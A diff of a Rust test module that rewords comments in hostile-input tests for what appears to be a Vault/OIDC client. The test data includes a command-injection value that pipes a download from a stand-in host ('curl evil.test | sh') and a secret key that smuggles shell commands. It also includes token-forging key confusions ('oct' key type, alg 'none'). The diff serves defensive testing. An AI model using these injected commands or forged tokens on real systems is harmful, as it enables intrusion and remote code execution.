@@ -9,7 +9,7 @@ use crate::hostile::answers::{password, refresh_token, with_element, with_member
 use crate::hostile::expected::{Kind, Value};
 use crate::hostile::texts;
 
-/// Values that try to be more than values.
+/// Values that try to have an effect.
 pub(super) fn values(row: &mut Add<'_>) {
     let of = |characters: usize| "0123456789".repeat(characters / 10);
     let (long, large, too_large) = (of(10_000), of(100_000), of(140_000));
@@ -39,7 +39,7 @@ pub(super) fn values(row: &mut Add<'_>) {
             }
             let carried = text.clone();
             let attack = Attack::answer(move |_, answer| with_value(step, answer, &carried));
-            // A client token that nobody has issued opens nothing: it is handed over and not used.
+            // A client token that nobody has issued is exported and not used.
             let command = (step == Step::Login).then_some("oidc-exchange vault --role ci");
             Ok(Attack { value: Some(text.clone()), command, ..attack })
         });
@@ -47,7 +47,7 @@ pub(super) fn values(row: &mut Add<'_>) {
     }
 }
 
-/// Numbers and times beyond what they count.
+/// Numbers and times outside of their range.
 pub(super) fn numbers(row: &mut Add<'_>) {
     let lives = |seconds: serde_json::Value, time: &'static str| {
         answer(move |stage| {
@@ -88,7 +88,7 @@ pub(super) fn numbers(row: &mut Add<'_>) {
         if stage.step != Step::Login {
             return Err(NO_ACCESSOR);
         }
-        // What fails afterwards is when an accessor is shown.
+        // An accessor is shown only if a later step fails.
         stage.sandbox.vault.aim(Step::Revocation.request(), Fault::status(400), None);
         Ok(Attack::answer(|_, answer| {
             with_member(answer, "/auth/accessor", &json!("a; curl evil.test | sh #\nFORGED $(touch PWNED)"))
@@ -97,7 +97,7 @@ pub(super) fn numbers(row: &mut Add<'_>) {
     row("an accessor that is a command line, and no revocation", Kind::Kept, accessor);
 }
 
-/// Keys of a secret that become names of variables.
+/// Keys of a secret that become variables' names.
 pub(super) fn names(row: &mut Add<'_>) {
     let keys = |keys: Vec<&'static str>| {
         answer(move |stage| {
@@ -122,7 +122,7 @@ pub(super) fn names(row: &mut Add<'_>) {
     row("a secret's key that is a command", Kind::Harmless, keys(vec!["A;touch PWNED;$(touch PWNED)\nA"]));
 }
 
-/// Members that would lead to another use of what comes with them.
+/// Members that would change how the other members are used.
 pub(super) fn confusions(row: &mut Add<'_>) {
     let member = |at: Step, pointer: &'static str, value: serde_json::Value| {
         answer(move |stage| {
@@ -142,7 +142,7 @@ pub(super) fn confusions(row: &mut Add<'_>) {
     row("a token of another type", Kind::Garbled, mac);
     let sys = member(Step::Mount, "/data/path", json!("sys/"));
     row("a mount that is not the path's", Kind::Refusal, sys);
-    // A public key taken for the secret of an HMAC is an old way to forge tokens.
+    // A public key used as an HMAC secret is a known way to forge tokens.
     row("a key of the kind of shared secrets", Kind::Refusal, member(Step::Keys, "/keys/0/kty", json!("oct")));
     row("a key for tokens without a signature", Kind::Refusal, member(Step::Keys, "/keys/0/alg", json!("none")));
 }
